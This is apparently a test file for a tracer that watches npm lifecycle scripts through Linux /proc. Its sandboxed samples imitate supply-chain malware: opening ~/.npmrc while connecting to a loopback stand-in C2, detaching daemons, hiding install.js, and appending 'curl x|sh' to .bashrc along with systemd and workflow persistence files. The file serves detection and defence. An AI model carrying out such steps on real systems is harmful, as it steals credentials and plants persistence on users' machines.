// The proc tracer on this machine's real /proc and file system: real child
// processes stand in for lifecycle scripts (a shim-like root shell that exports
// the run's variables and runs the script's shell as its child), a loopback
// server stands in for a C2. Only loopback, only temp dirs.
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { GuardedEvent, LifecycleScript } from '../../../src/events/types.js';
import { ProcTracer, type ProcTracerOptions } from '../../../src/tracers/proc/index.js';
import { ofKind } from './helpers.js';

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

async function until(check: () => boolean, ms = 5000): Promise<boolean> {
  const end = Date.now() + ms;
  while (!check() && Date.now() < end) await sleep(10);
  return check();
}

interface Env {
  root: string;
  runDir: string;
  home: string;
  tmp: string;
  project: string;
  events: GuardedEvent[];
  byRoot: Map<number, LifecycleScript>;
  byId: Map<string, LifecycleScript>;
}

function makeEnv(): Env {
  const root = mkdtempSync(join(tmpdir(), 'gi-proc-'));
  const env: Env = { root, runDir: join(root, 'run'), home: join(root, 'home'), tmp: join(root, 'tmp'), project: join(root, 'project'), events: [], byRoot: new Map(), byId: new Map() };
  for (const d of [env.runDir, env.home, env.tmp, join(env.project, 'node_modules')]) mkdirSync(d, { recursive: true });
  return env;
}

function tracerFor(env: Env, extra: Partial<ProcTracerOptions> = {}): ProcTracer {
  return new ProcTracer({
    runDir: env.runDir,
    npmPid: process.pid, // the test process plays npm: the scripts are its children
    scriptById: (id) => env.byId.get(id),
    scriptByRootPid: (pid) => env.byRoot.get(pid),
    emit: (e) => env.events.push(e),
    home: env.home,
    tempDirs: [env.tmp],
    projectRoot: env.project,
    ...extra,
  });
}

function packageDir(env: Env, name: string, files: Record<string, string> = {}): string {
  const dir = join(env.project, 'node_modules', name);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name, version: '1.0.0' }));
  for (const [file, text] of Object.entries(files)) writeFileSync(join(dir, file), text);
  return dir;
}

interface Run {
  script: LifecycleScript;
  child: ChildProcess;
  exited: Promise<void>;
}

// What the shim does in proc mode: export the run's variables, write its meta
// file, run the user's shell as a child, wait. `register: false` leaves the
// script unknown (its meta not read yet).
function runScript(env: Env, tracer: ProcTracer, id: string, dir: string, command: string, opts: { register?: boolean; vars?: Record<string, string> } = {}): Run {
  const child = spawn('/bin/sh', ['-c', ': > "$GUARDED_INSTALL_RUN_DIR/$GUARDED_INSTALL_SCRIPT_ID.meta"; sh -c "$0"; code=$?; exit $code', command], {
    cwd: dir,
    stdio: 'ignore',
    env: { PATH: process.env.PATH, HOME: env.home, TMPDIR: env.tmp, GUARDED_INSTALL_RUN_DIR: env.runDir, GUARDED_INSTALL_SCRIPT_ID: id, ...opts.vars },
  });
  const script: LifecycleScript = { id, name: `pkg-${id}`, version: '1.0.0', event: 'postinstall', packageJson: join(dir, 'package.json'), path: dir, command, shell: '/bin/sh', shimPid: child.pid ?? -1, startedAt: Date.now() };
  const exited = new Promise<void>((resolve) => child.on('exit', () => {
    script.endedAt = Date.now();
    resolve();
  }));
  if (opts.register !== false) register(env, tracer, script);
  return { script, child, exited };
}

function register(env: Env, tracer: ProcTracer, script: LifecycleScript): void {
  env.byRoot.set(script.shimPid, script);
  env.byId.set(script.id, script);
  tracer.watchPackage(script);
  tracer.pollNow();
}

const of = (env: Env, id: string): GuardedEvent[] => env.events.filter((e) => e.npm.script_id === id);
const startsOf = (env: Env, id: string, name: string) => ofKind(of(env, id), 'process-start').filter((e) => e.process.name === name);

describe('ProcTracer on Linux /proc', { timeout: 30_000 }, () => {
  let env: Env;
  let tracer: ProcTracer;
  let server: Server;
  let port = 0;

  beforeAll(async () => {
    env = makeEnv();
    tracer = tracerFor(env);
    tracer.start();
    server = createServer((socket) => socket.on('data', () => {}).on('error', () => {}));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    port = typeof address === 'object' && address ? address.port : 0;
  });

  afterAll(async () => {
    await tracer.stop();
    server.close();
    rmSync(env.root, { recursive: true, force: true });
  });

  it('reports the script tree with argv, cwd and parentage, attributed to the script', async () => {
    const dir = packageDir(env, 'tree', { 'install.js': 'require("child_process").execFileSync("sleep", ["0.8"]);' });
    const run = runScript(env, tracer, 'tree', dir, 'node install.js');
    await run.exited;
    await sleep(60);
    tracer.pollNow();
    const [sh] = startsOf(env, 'tree', 'sh');
    const [node] = startsOf(env, 'tree', 'node');
    const [sl] = startsOf(env, 'tree', 'sleep');
    expect(sh?.process).toMatchObject({ args: ['sh', '-c', 'node install.js'], parent: { pid: run.script.shimPid }, working_directory: dir });
    expect(node?.process).toMatchObject({ args: ['node', 'install.js'], parent: { pid: sh?.process.pid }, working_directory: dir });
    expect(node?.process.executable).toMatch(/\/node$/);
    expect(sl?.process).toMatchObject({ args: ['sleep', '0.8'], parent: { pid: node?.process.pid } });
    expect(sl?.npm.ancestry).toEqual([node?.process.pid, sh?.process.pid, run.script.shimPid]);
    expect(sl?.package).toEqual({ name: 'pkg-tree', version: '1.0.0', path: dir });
    // dated by the process's start, not by when we looked
    const started = Date.parse(sl!['@timestamp']);
    expect(started).toBeGreaterThanOrEqual(run.script.startedAt - 50);
    expect(started).toBeLessThanOrEqual(run.script.endedAt!);
    const end = ofKind(of(env, 'tree'), 'process-end').find((e) => e.process.pid === sl?.process.pid);
    expect(end?.process.uptime_ms).toBeGreaterThanOrEqual(600);
    // the shim itself is ours, not a process of the script's
    expect(ofKind(of(env, 'tree'), 'process-start').some((e) => e.process.pid === run.script.shimPid)).toBe(false);
  });

  it('holds the events of a script whose meta is not read yet, and reports them once it is', async () => {
    const dir = packageDir(env, 'late');
    const run = runScript(env, tracer, 'late', dir, 'sleep 0.6; true', { register: false });
    tracer.pollNow(); // what the supervisor does when the meta file appears (here: before it is parsed)
    await run.exited;
    await sleep(50);
    expect(of(env, 'late')).toEqual([]);
    register(env, tracer, run.script);
    expect(startsOf(env, 'late', 'sleep')[0]?.process.args).toEqual(['sleep', '0.6']);
  });

  it('sees a loopback connection and an open credential file', async () => {
    const dir = packageDir(env, 'net', {
      'install.js': `
        const fs = require('fs');
        const fd = fs.openSync(process.env.HOME + '/.npmrc', 'a');
        const s = require('net').connect(${port}, '127.0.0.1', () => setTimeout(() => { s.destroy(); fs.closeSync(fd); }, 800));`,
    });
    const run = runScript(env, tracer, 'net', dir, 'node install.js');
    await run.exited;
    const [node] = startsOf(env, 'net', 'node');
    const conns = ofKind(of(env, 'net'), 'network-connect');
    expect(conns).toHaveLength(1);
    expect(conns[0]).toMatchObject({
      process: { pid: node?.process.pid, name: 'node' },
      destination: { ip: '127.0.0.1', port, address: '127.0.0.1' },
      network: { transport: 'tcp', type: 'ipv4' },
      syscall: { name: 'connect', result: 'ESTABLISHED' },
      event: { outcome: 'success' },
    });
    expect(ofKind(of(env, 'net'), 'sensitive-read').map((e) => [e.process.pid, e.file.path])).toEqual([[node?.process.pid, join(env.home, '.npmrc')]]);
  });

  it('reports setsid as a detach', async () => {
    const dir = packageDir(env, 'detach');
    const run = runScript(env, tracer, 'detach', dir, 'setsid sleep 0.8');
    await run.exited;
    const detach = ofKind(of(env, 'detach'), 'process-detach');
    expect(detach).toHaveLength(1);
    // seen as `setsid sleep 0.8` or, after its exec, as `sleep 0.8`: the same process
    expect(detach[0]?.process.pid).toBe(startsOf(env, 'detach', 'sleep')[0]?.process.pid);
  });

  it('attributes a double-forked daemon by its environment', async () => {
    // a tracer that only looks when told: the daemon's parents are gone by then
    const quiet = makeEnv();
    const q = tracerFor(quiet, { maxIntervalMs: 60_000 });
    let daemon = 0;
    try {
      q.pollNow();
      const dir = packageDir(quiet, 'daemon');
      const pidFile = join(quiet.root, 'daemon.pid');
      const run = runScript(quiet, q, 'daemon', dir, `( setsid sh -c 'echo $$ > ${pidFile}; exec sleep 2' & ) ; sleep 0.1`, { register: false });
      await run.exited;
      expect(await until(() => existsSync(pidFile) && readFileSync(pidFile, 'utf8').trim() !== '')).toBe(true);
      daemon = Number(readFileSync(pidFile, 'utf8'));
      await sleep(50);
      quiet.byId.set('daemon', run.script);
      quiet.byRoot.set(run.script.shimPid, run.script);
      q.pollNow();
      const start = ofKind(quiet.events, 'process-start').find((e) => e.process.pid === daemon);
      expect(start).toMatchObject({ process: { name: 'sleep', args: ['sleep', '2'] }, npm: { script_id: 'daemon', ancestry: [run.script.shimPid] } });
      expect(start?.process.parent?.pid).not.toBe(run.script.shimPid);
      expect(ofKind(quiet.events, 'process-detach').map((e) => e.process.pid)).toEqual([daemon]);
      expect(q.liveProcesses().map((p) => p.process.pid)).toContain(daemon);
      expect(q.isOurs(daemon)).toBe(true);
      process.kill(daemon, 'SIGKILL');
      await sleep(50);
      expect(q.isOurs(daemon)).toBe(false);
    } finally {
      if (daemon > 0 && q.isOurs(daemon)) process.kill(daemon, 'SIGKILL');
      await q.stop();
      rmSync(quiet.root, { recursive: true, force: true });
    }
  });

  it('is sure a pid is ours only while that process lives', async () => {
    const dir = packageDir(env, 'ours');
    const run = runScript(env, tracer, 'ours', dir, 'sleep 0.8');
    await until(() => startsOf(env, 'ours', 'sleep').length > 0);
    const pid = startsOf(env, 'ours', 'sleep')[0]!.process.pid;
    expect(tracer.isOurs(pid)).toBe(true);
    expect(tracer.isOurs(process.pid)).toBe(false);
    await run.exited;
    expect(tracer.isOurs(pid)).toBe(false);
    expect(tracer.isOurs(run.script.shimPid)).toBe(false);
  });

  it('attributes writes, renames and deletions in the package folder', async () => {
    const dir = packageDir(env, 'churn', { 'install.js': '// install', 'package.md': '{"name":"decoy"}' });
    await sleep(30); // npm extracted it a while before the script runs
    const go = join(env.root, 'go-churn');
    const run = runScript(env, tracer, 'churn', dir, `echo early > early.txt; until [ -e ${go} ]; do sleep 0.02; done; echo x > dropped.bin; mkdir out; sleep 0.1; mv install.js .hidden.js; mv package.md package.json; rm dropped.bin; sleep 0.2`, { register: false });
    // the watch starts late (meta read after the script began): what the scan finds made since the shim started is the script's
    expect(await until(() => existsSync(join(dir, 'early.txt')))).toBe(true);
    register(env, tracer, run.script);
    await tracer.ready(); // changes during a watch's initial scan can be missed: start after it
    writeFileSync(go, '');
    await run.exited;
    await sleep(150);
    const files = of(env, 'churn').filter((e) => e.kind.startsWith('file-') || e.kind === 'dir-create');
    const seen = files.map((e) => `${e.kind} ${'file' in e ? e.file.path.slice(dir.length + 1) : ''}${e.kind === 'file-rename' ? ` <- ${e.syscall.source_path.slice(dir.length + 1)}` : ''}`);
    expect(seen.sort()).toEqual(['dir-create out', 'file-delete dropped.bin', 'file-rename .hidden.js <- install.js', 'file-rename package.json <- package.md', 'file-write dropped.bin', 'file-write early.txt']);
    const write = ofKind(files, 'file-write').find((e) => e.file.path.endsWith('dropped.bin'));
    expect(write?.event.type).toEqual(['creation']);
    expect(write?.process.pid).toBe(run.script.shimPid);
  });

  it('watches temp dirs, HOME drop zones and persistence paths that do not exist yet', async () => {
    const dir = packageDir(env, 'persist');
    await tracer.ready(); // the temp dir's watch must be set before the script writes there
    const run = runScript(env, tracer, 'persist', dir, `echo x > "$TMPDIR/stage2"; echo 'curl x|sh' >> "$HOME/.bashrc"; mkdir -p "$HOME/.config/systemd/user"; sleep 0.1; echo u > "$HOME/.config/systemd/user/x.service"; mkdir -p ${env.project}/.github/workflows; sleep 0.1; echo w > ${env.project}/.github/workflows/ci.yml; mkdir -p "$HOME/.local/share/.x" "$HOME/.hid"; sleep 0.1; echo s > "$HOME/.local/share/.x/stage2"; echo h > "$HOME/.hid/run"; sleep 0.2; rm "$TMPDIR/stage2"; sleep 0.2`);
    await run.exited;
    await sleep(150);
    const paths = ofKind(of(env, 'persist'), 'file-write').map((e) => e.file.path);
    // a shell's quick write to a shared temp dir: seen, but nobody is guessed.
    // Only evidence names it: a poll that caught the writing shell (not the
    // script's root, which a guess would name) with the file open.
    const staged = ofKind(env.events, 'file-write').find((e) => e.file.path === join(env.tmp, 'stage2'));
    expect(staged).toBeDefined();
    if (staged?.npm.script_id !== '') {
      expect(staged?.npm.script_id).toBe('persist');
      expect(staged?.process.pid).not.toBe(run.script.shimPid);
    }
    expect(paths).toEqual(expect.arrayContaining([join(env.home, '.bashrc'), join(env.home, '.config/systemd/user/x.service'), join(env.project, '.github/workflows/ci.yml'), join(env.home, '.local/share/.x/stage2'), join(env.home, '.hid/run')]));
    expect(env.events.some((e) => 'file' in e && e.file.path.startsWith(env.runDir))).toBe(false);
    // deletions in temp dirs are not reported (other programs' temp files could only be misblamed)
    expect(ofKind(env.events, 'file-delete').some((e) => e.file.path === join(env.tmp, 'stage2'))).toBe(false);
  });

  it('leaves unattributed what no evidence ties to one script', async () => {
    await until(() => tracer.liveProcesses().length === 0, 3000);
    const a = runScript(env, tracer, 'a', packageDir(env, 'a'), 'sleep 0.6');
    const b = runScript(env, tracer, 'b', packageDir(env, 'b'), 'sleep 0.6');
    await sleep(100);
    writeFileSync(join(env.tmp, 'who'), 'x');
    await Promise.all([a.exited, b.exited]);
    const ev = env.events.find((e) => e.kind === 'file-write' && e.file.path === join(env.tmp, 'who'));
    expect(ev?.npm.script_id).toBe('');
    expect(ev?.process.pid).toBe(0);
  });

  it('polls fast while scripts run and reports its figures', () => {
    const s = tracer.stats();
    expect(s.polls).toBeGreaterThan(10);
    expect(s.meanPollMs).toBeGreaterThan(0);
    expect(s.intervalMs).toBeGreaterThanOrEqual(10);
    expect(s.intervalMs).toBeLessThanOrEqual(250);
    expect(s.processesSeen).toBeGreaterThan(5);
    expect(s.connectionsSeen).toBe(1);
    expect(s.fileEvents).toBeGreaterThan(5);
  });
});
